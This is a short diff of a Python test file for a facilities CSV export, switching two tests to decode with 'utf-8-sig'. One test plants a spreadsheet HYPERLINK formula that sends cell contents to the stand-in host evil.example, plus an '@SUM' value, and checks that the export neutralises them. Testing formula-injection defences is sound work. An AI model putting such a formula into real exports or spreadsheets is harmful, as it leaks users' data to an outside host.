@@ -72,7 +72,7 @@ def test_facility_with_history(client, services):
 
 def test_exports_carry_licence_attribution_and_history(client, services):
     r = client.get("/api/facilities.csv", {"include_closed": "true"})
-    rows = list(csv.DictReader(io.StringIO(r.content.decode())))
+    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
     assert len(rows) == 4
     post = next(row for row in rows if row["name"] == "Post")
     assert post["licence"] == "CC0 1.0" and post["attribution"] == "Synthetic demo data, not real"
@@ -132,7 +132,7 @@ def test_csv_export_defuses_spreadsheet_formulas(client, services):
     fac.name = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
     fac.address = "@SUM(1+1)"
     fac.save()
-    rows = list(csv.DictReader(io.StringIO(client.get("/api/facilities.csv", {"categories": "bakery"}).content.decode())))
+    rows = list(csv.DictReader(io.StringIO(client.get("/api/facilities.csv", {"categories": "bakery"}).content.decode("utf-8-sig"))))
     assert rows[0]["name"].startswith("'=") and rows[0]["address"] == "'@SUM(1+1)"
 
 
